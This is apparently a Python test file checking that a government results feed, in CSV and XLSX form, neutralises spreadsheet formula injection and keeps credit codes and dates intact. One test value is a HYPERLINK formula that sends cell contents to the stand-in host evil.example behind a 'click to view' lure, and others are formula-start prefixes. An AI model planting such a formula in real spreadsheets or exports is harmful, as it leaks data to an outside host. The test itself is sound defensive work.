"""The results feed against the directory and against spreadsheets (issue 17, items 3 and
14): what was published stays as published, and no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import Session

from bot.public.feeds import neutral
from bot.public.site import Site
from storage.db import transaction
from storage.models import Batch, InspectionObject, Task
from tests.support.batch_district import seed_district
from tests.support.public_district import disclose
from tests.support.results_district import SETTINGS


@pytest.fixture
def disclosed(engine, tmp_path):
    seed_district(engine, tmp_path)
    return disclose(engine, tmp_path)


def feeds(engine) -> tuple[list[list[str]], list[list]]:
    with Session(engine) as session:
        site = Site(session, SETTINGS)
        rows = list(csv.reader(io.StringIO(site.get("results.csv").body.decode("utf-8-sig"))))
        sheet = load_workbook(io.BytesIO(site.get("results.xlsx").body)).active
        return rows, [list(row) for row in sheet.iter_rows()]


ATTACKS = ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


def test_cells_that_would_run_as_formulas_are_neutralised(engine, disclosed):
    """Issue 17 item 14: an object named ``=HYPERLINK(…)`` (and the other starts OWASP lists)
    is shown as text in results.csv and results.xlsx; credit codes and dates are kept."""
    first, second = disclosed.published_tasks
    with transaction(engine) as session:
        obj = session.get_one(Task, first).object_id
        session.execute(update(InspectionObject).where(InspectionObject.id == obj).values(name=ATTACKS[0]))
        session.execute(update(Batch).where(Batch.id == disclosed.drawn).values(name=ATTACKS[1]))
    rows, sheet = feeds(engine)
    for attack in ATTACKS:
        assert all(not cell.startswith(attack) for row in rows for cell in row)
    (row,) = [r for r in rows[1:] if r[0] == obj]
    assert row[1] == "'" + ATTACKS[0] and row[3] == "'" + ATTACKS[1]
    assert all(r[0].isalnum() and len(r[0]) == 18 for r in rows[1:])  # credit codes as they are
    assert all(r[8][:4].isdigit() for r in rows[1:])  # dates as they are
    cells = [c for line in sheet for c in line]
    assert all(c.data_type != "f" for c in cells)  # no formula in the workbook
    assert [[str(c.value) for c in line] for line in sheet] == rows
    assert [neutral(a)[0] for a in ATTACKS] == ["'"] * len(ATTACKS)
    assert neutral("911506020000000001") == "911506020000000001" and neutral("对象1") == "对象1"
